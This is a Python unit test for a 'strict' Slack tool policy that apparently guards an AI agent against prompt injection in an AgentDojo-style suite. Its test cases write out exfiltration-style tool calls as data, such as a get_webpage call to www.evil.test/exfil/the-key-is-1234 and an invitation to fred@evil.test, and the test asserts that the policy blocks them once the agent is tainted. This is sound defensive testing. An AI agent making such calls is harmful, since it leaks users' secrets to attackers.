"""The strict slack policy closes what slack.yaml leaves open once tainted (its header says
what): an invitation, a direct message to a non-member, a post to an External_* channel, a URL
carrying data; and keeps what the suite policy allows for members."""

from __future__ import annotations

from typing import Any

import pytest

from governance.policy import load_policy
from tests.unit.governance.agentdojo.test_suite_policies import POLICIES, _decide


@pytest.mark.parametrize(
    ("function", "args", "effect"),
    [
        ("invite_user_to_slack", {"user": "Fred", "user_email": "fred@evil.test"}, "block"),
        ("send_direct_message", {"recipient": "Fred", "body": "the key is 1234"}, "block"),
        ("send_direct_message", {"recipient": "Alice", "body": "see you"}, "allow"),
        ("send_channel_message", {"channel": "External_0", "body": "hello"}, "block"),
        ("send_channel_message", {"channel": "general", "body": "hello"}, "allow"),
        ("get_webpage", {"url": "www.informations.com"}, "allow"),
        ("get_webpage", {"url": "https://www.informations.com/"}, "allow"),
        ("get_webpage", {"url": "www.evil.test/exfil/the-key-is-1234"}, "block"),
        ("get_webpage", {"url": "www.evil.test?k=1234"}, "block"),
    ],
)
def test_the_strict_slack_policy_once_tainted(
    function: str, args: dict[str, Any], effect: str
) -> None:
    policy = load_policy(POLICIES / "slack-strict.yaml")
    assert _decide(policy, "slack", function, args, tainted=True) == effect


def test_before_untrusted_text_the_strict_policy_leaves_the_user_alone() -> None:
    policy = load_policy(POLICIES / "slack-strict.yaml")
    invite = {"user": "Dora", "user_email": "dora@gmail.com"}
    assert _decide(policy, "slack", "invite_user_to_slack", invite, tainted=False) == "allow"
